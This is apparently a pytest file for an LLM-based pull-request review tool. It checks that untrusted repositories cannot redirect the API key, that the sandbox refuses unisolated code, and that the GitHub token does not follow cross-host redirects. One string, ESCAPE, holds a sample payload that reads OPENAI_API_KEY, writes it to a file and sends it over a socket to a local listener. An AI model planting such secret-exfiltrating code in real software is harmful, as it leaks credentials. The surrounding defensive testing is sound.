"""A stranger's pull request is untrusted (issue 18): its `pyproject.toml` cannot route the
API key, and its code does not run where nothing isolates it (loopback only)."""

from __future__ import annotations

import io
import os
import socket
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer

from review_copies.github.api import ApiError, GitHubClient, RetryPolicy
from review_copies.model.findings import Status
from review_copies.sandbox.protocol import Limits
from review_copies.sandbox.verify.client import Sandbox, SandboxUnavailable
from review_copies.sandbox.verify.verifier import Verifier
from tests.llm_fake import DATA, FakeOpenAI, by_file, llm_config, make_repo, review, start_fake
from tests.sandbox_helpers import finding

FILES = ("pkg/train.py", "pkg/metrics.py")


def _texts(side: str) -> dict[str, str]:
    return {path: (DATA / side / path).read_text(encoding="utf-8") for path in FILES}


@pytest.fixture(scope="module")
def servers():
    trusted, attacker = start_fake(), start_fake()
    yield trusted, attacker
    trusted.server.stop()
    attacker.server.stop()


@pytest.fixture
def endpoints(servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[FakeOpenAI, FakeOpenAI]:
    for server in servers:
        server.bodies.clear()
        server.handler = by_file({})
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache-home"))
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    return servers


def _repo(tmp_path: Path, attacker: FakeOpenAI) -> Path:
    return make_repo(tmp_path / "repo", _texts("base"), _texts("head"), llm_config(**{"base-url": attacker.url}))


def test_in_github_actions_the_repositorys_base_url_gets_nothing(tmp_path: Path, endpoints, monkeypatch: pytest.MonkeyPatch) -> None:
    trusted, attacker = endpoints
    repo = _repo(tmp_path, attacker)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("OPENAI_BASE_URL", trusted.url)
    result = review(repo, "--format", "json", "--model", "fake-model")
    assert attacker.count == 0
    assert trusted.count > 0  # the review still ran, against the workflow's endpoint
    assert result.stderr.count("warning: base-url") == 1 and "is ignored" in result.stderr


def test_on_a_developers_machine_the_repositorys_base_url_is_used(tmp_path: Path, endpoints) -> None:
    """The same key honoured where the repository is the user's own (no Actions, no
    --post-review): the contract's configuration still works."""
    _, attacker = endpoints
    repo = _repo(tmp_path, attacker)
    review(repo, "--format", "json", "--model", "fake-model")
    assert attacker.count > 0


ESCAPE = """
import os, socket, torch

def f(x: torch.Tensor) -> torch.Tensor:
    leaked = os.environ.get("OPENAI_API_KEY", "")
    open(CHECKOUT + "/pwned.txt", "w").write(leaked)
    s = socket.create_connection(("127.0.0.1", PORT), timeout=1)
    s.sendall(leaked.encode())
    x -= x.mean()
    return x / x.std()
"""


def test_without_namespaces_untrusted_code_never_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where nothing isolates a probe (no namespaces), the sandbox refuses to run it: the
    payload reads no key, writes nothing, reaches no socket, and the verdict says why."""
    checkout = tmp_path / "checkout"
    checkout.mkdir()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.5)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    code = ESCAPE.replace("CHECKOUT", repr(str(checkout))).replace("PORT", str(listener.getsockname()[1]))
    f, text = finding(code, 8, "alias-mutation")
    sb = Sandbox(Limits(wall_seconds=5, cpu_seconds=3), isolation="none")
    try:
        with pytest.raises(SandboxUnavailable, match="no namespaces"):
            sb.start()
        v = Verifier(sb, "cpu", io.StringIO()).verification(f, text, ["cpu"])
    finally:
        sb.close()
    assert v.status is Status.NOT_RUN and "unsafe-local" in v.evidence, v.evidence
    assert not (checkout / "pwned.txt").exists()
    with pytest.raises(TimeoutError):
        listener.accept()
    listener.close()
    assert os.environ["OPENAI_API_KEY"] == "sk-secret"


# ------------------------------------------------------------------ the GitHub client


def _client(url: str) -> GitHubClient:
    return GitHubClient(url.rstrip("/"), "ghs_secret", policy=RetryPolicy(attempts=1))


def test_the_token_never_follows_a_redirect_to_another_host(httpserver) -> None:
    elsewhere = HTTPServer(host="127.0.0.1", port=0)
    elsewhere.start()
    try:
        elsewhere.expect_request("/steal").respond_with_json({"ok": True})
        httpserver.expect_request("/repos/o/r/pulls/1").respond_with_data("", status=302, headers={"Location": elsewhere.url_for("/steal")})
        with pytest.raises(ApiError, match="redirect to another host refused"):
            _client(httpserver.url_for("")).request("GET", "/repos/o/r/pulls/1")
        assert elsewhere.log == []
    finally:
        elsewhere.stop()


def test_a_redirect_within_the_api_is_followed(httpserver) -> None:
    httpserver.expect_request("/repos/o/r/pulls/1").respond_with_data("", status=301, headers={"Location": httpserver.url_for("/repositories/9/pulls/1")})
    httpserver.expect_request("/repositories/9/pulls/1").respond_with_json({"number": 1})
    assert _client(httpserver.url_for("")).request("GET", "/repos/o/r/pulls/1").data == {"number": 1}


def test_pagination_that_never_ends_is_stopped(httpserver) -> None:
    looping = httpserver.url_for("/items")
    httpserver.expect_request("/items").respond_with_json([1], headers={"Link": f'<{looping}?per_page=100>; rel="next"'})
    with pytest.raises(ApiError, match="pagination does not end"):
        list(_client(httpserver.url_for("")).paginate("/items"))
    assert len(httpserver.log) <= 2
